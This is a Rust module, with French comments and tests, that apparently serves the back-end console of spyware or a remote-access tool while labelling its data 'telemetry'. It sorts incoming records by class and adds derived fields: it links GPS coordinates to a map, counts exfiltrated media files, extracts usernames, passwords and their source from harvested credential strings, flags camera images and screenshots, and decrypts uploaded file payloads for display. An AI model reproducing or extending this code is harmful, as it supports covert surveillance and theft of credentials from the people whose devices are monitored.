/**
 * ENRICHISSEMENT - Table de dispatch par type de télémétrie
 *
 * RÔLE :
 * Ajoute des champs dérivés (map_url, files_count, identifiants promus) à un document
 * de télémétrie selon sa classe. Appliqué à l'ingestion puis de nouveau à la lecture
 * pour les enregistrements antérieurs.
 *
 * RÈGLE : uniquement des ajouts ; une clé envoyée par le client n'est jamais réécrite.
 */

use crate::codec::PayloadCodec;
use serde_json::{Map, Value};

pub const MAP_URL_BASE: &str = "https://maps.google.com/?q=";
const DECODE_FAILED: &str = "Error decoding content";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DataClass {
    Location,
    Media,
    Credentials,
    Image,
    Other,
}

impl DataClass {
    /// Classes testées dans l'ordre ; la première qui correspond l'emporte
    pub fn of(data_type: &str) -> Self {
        let t = normalize_type(data_type);
        if t.starts_with("location") || t == "gps" {
            DataClass::Location
        } else if ["media", "file", "metadata"].iter().any(|k| t.contains(k)) {
            DataClass::Media
        } else if ["credentials", "auth", "login"].iter().any(|k| t.contains(k)) {
            DataClass::Credentials
        } else if t == "camera_image" || t == "screenshot" {
            DataClass::Image
        } else {
            DataClass::Other
        }
    }

    /// Types rendus par la vue riche de la console (image base64 dupliquée)
    pub fn is_image(self) -> bool {
        self == DataClass::Image
    }
}

pub fn normalize_type(raw: &str) -> String {
    raw.trim().to_lowercase()
}

/// Rendu d'une coordonnée : nombre JSON tel quel (1.0 reste 1.0), chaîne sans guillemets
fn coord_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

pub fn map_url(lat: &Value, lng: &Value) -> String {
    format!("{MAP_URL_BASE}{},{}", coord_text(lat), coord_text(lng))
}

/// Champ `data` imbriqué : chaîne contenant un objet JSON, ou objet direct
pub fn nested_data(doc: &Map<String, Value>) -> Option<Map<String, Value>> {
    match doc.get("data")? {
        Value::String(s) => match serde_json::from_str::<Value>(s) {
            Ok(Value::Object(map)) => Some(map),
            _ => None,
        },
        Value::Object(map) => Some(map.clone()),
        _ => None,
    }
}

fn add_missing(doc: &mut Map<String, Value>, key: &str, value: Value) {
    if !doc.contains_key(key) {
        doc.insert(key.to_string(), value);
    }
}

/// Enrichissement commun ingestion/lecture
pub fn enrich(data_type: &str, doc: &mut Map<String, Value>) -> DataClass {
    let class = DataClass::of(data_type);
    match class {
        DataClass::Location => enrich_location(doc),
        DataClass::Media => enrich_media(doc),
        DataClass::Credentials => enrich_credentials(doc),
        DataClass::Image | DataClass::Other => {}
    }
    class
}

fn enrich_location(doc: &mut Map<String, Value>) {
    if let (Some(lat), Some(lng)) = (doc.get("latitude"), doc.get("longitude")) {
        let url = map_url(lat, lng);
        add_missing(doc, "map_url", Value::String(url));
        return;
    }
    let Some(nested) = nested_data(doc) else { return };
    if let (Some(lat), Some(lng)) = (nested.get("latitude"), nested.get("longitude")) {
        add_missing(doc, "map_url", Value::String(map_url(lat, lng)));
        add_missing(doc, "latitude", lat.clone());
        add_missing(doc, "longitude", lng.clone());
    }
}

fn files_count(files: &Value) -> Option<usize> {
    match files {
        Value::Array(a) => Some(a.len()),
        Value::Object(o) => Some(o.len()),
        _ => None,
    }
}

fn enrich_media(doc: &mut Map<String, Value>) {
    let files = doc
        .get("media_files")
        .cloned()
        .or_else(|| nested_data(doc).and_then(|n| n.get("media_files").cloned()));
    let Some(files) = files else { return };
    if let Some(count) = files_count(&files) {
        add_missing(doc, "files_count", Value::from(count));
    }
    add_missing(doc, "files", files);
}

fn enrich_credentials(doc: &mut Map<String, Value>) {
    if doc.contains_key("username") && doc.contains_key("password") {
        return;
    }
    if let Some(nested) = nested_data(doc) {
        for key in ["username", "password", "source"] {
            if let Some(v) = nested.get(key) {
                add_missing(doc, key, v.clone());
            }
        }
        return;
    }
    // Forme brute "user:pass"
    let raw = match doc.get("data") {
        Some(Value::String(s)) => s.clone(),
        _ => return,
    };
    if let Some((user, pass)) = raw.split_once(':') {
        add_missing(doc, "username", Value::String(user.to_string()));
        add_missing(doc, "password", Value::String(pass.to_string()));
    }
}

/// Lecture seule : déchiffre chaque fichier de `payload` (nom -> blob) dans `decoded_files`
pub fn decode_files(doc: &mut Map<String, Value>, codec: &PayloadCodec) {
    let Some(Value::Object(files)) = doc.get("payload") else { return };
    let decoded: Map<String, Value> = files
        .iter()
        .map(|(name, blob)| {
            let text = blob
                .as_str()
                .and_then(|b| codec.decrypt_str(b).ok())
                .filter(|t| !t.is_empty())
                .unwrap_or_else(|| DECODE_FAILED.to_string());
            (name.clone(), Value::String(text))
        })
        .collect();
    doc.insert("decoded_files".into(), Value::Object(decoded));
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn obj(v: Value) -> Map<String, Value> {
        match v {
            Value::Object(m) => m,
            _ => panic!("not an object"),
        }
    }

    #[test]
    fn test_classification_order() {
        assert_eq!(DataClass::of("location_data"), DataClass::Location);
        assert_eq!(DataClass::of("GPS"), DataClass::Location);
        assert_eq!(DataClass::of("media_metadata"), DataClass::Media);
        assert_eq!(DataClass::of("file_list"), DataClass::Media);
        assert_eq!(DataClass::of("credentials"), DataClass::Credentials);
        assert_eq!(DataClass::of("oauth_token"), DataClass::Credentials);
        assert_eq!(DataClass::of("camera_image"), DataClass::Image);
        assert_eq!(DataClass::of("screenshot"), DataClass::Image);
        assert_eq!(DataClass::of("sms"), DataClass::Other);
        // "location" gagne sur "metadata"
        assert_eq!(DataClass::of("location_metadata"), DataClass::Location);
    }

    #[test]
    fn test_map_url_keeps_number_rendering() {
        assert_eq!(map_url(&json!(1.0), &json!(2.0)), "https://maps.google.com/?q=1.0,2.0");
        assert_eq!(map_url(&json!("48.85"), &json!(2)), "https://maps.google.com/?q=48.85,2");
    }

    #[test]
    fn test_location_top_level() {
        let mut doc = obj(json!({"latitude": 1.0, "longitude": 2.0}));
        enrich("location_data", &mut doc);
        assert_eq!(doc["map_url"], json!("https://maps.google.com/?q=1.0,2.0"));
    }

    #[test]
    fn test_location_nested_promotes_coordinates() {
        let mut doc = obj(json!({"data": "{\"latitude\": 10.5, \"longitude\": -3.25}"}));
        enrich("gps", &mut doc);
        assert_eq!(doc["latitude"], json!(10.5));
        assert_eq!(doc["longitude"], json!(-3.25));
        assert_eq!(doc["map_url"], json!("https://maps.google.com/?q=10.5,-3.25"));
    }

    #[test]
    fn test_location_never_overwrites_client_map_url() {
        let mut doc = obj(json!({"latitude": 1, "longitude": 2, "map_url": "mine"}));
        enrich("location", &mut doc);
        assert_eq!(doc["map_url"], json!("mine"));
    }

    #[test]
    fn test_media_counts_files() {
        let mut doc = obj(json!({"media_files": ["a.jpg", "b.jpg"]}));
        enrich("media_metadata", &mut doc);
        assert_eq!(doc["files_count"], json!(2));

        let mut nested = obj(json!({"data": "{\"media_files\": [\"x\"]}"}));
        enrich("file_index", &mut nested);
        assert_eq!(nested["files_count"], json!(1));
        assert_eq!(nested["files"], json!(["x"]));
    }

    #[test]
    fn test_credentials_promoted_from_nested() {
        let mut doc = obj(json!({"data": "{\"username\": \"bob\", \"password\": \"pw\", \"source\": \"mail\"}"}));
        enrich("credentials", &mut doc);
        assert_eq!(doc["username"], json!("bob"));
        assert_eq!(doc["password"], json!("pw"));
        assert_eq!(doc["source"], json!("mail"));
    }

    #[test]
    fn test_credentials_split_on_first_colon() {
        let mut doc = obj(json!({"data": "alice:p:w"}));
        enrich("login", &mut doc);
        assert_eq!(doc["username"], json!("alice"));
        assert_eq!(doc["password"], json!("p:w"));
    }

    #[test]
    fn test_credentials_already_structured_untouched() {
        let mut doc = obj(json!({"username": "u", "password": "p", "data": "x:y"}));
        let before = doc.clone();
        enrich("credentials", &mut doc);
        assert_eq!(doc, before);
    }

    #[test]
    fn test_decode_files() {
        let codec = PayloadCodec::default();
        let blob = codec.encrypt(b"hello file");
        let mut doc = obj(json!({"payload": {"a.txt": blob, "b.txt": "garbage"}}));
        decode_files(&mut doc, &codec);
        assert_eq!(doc["decoded_files"]["a.txt"], json!("hello file"));
        assert_eq!(doc["decoded_files"]["b.txt"], json!(DECODE_FAILED));
    }
}
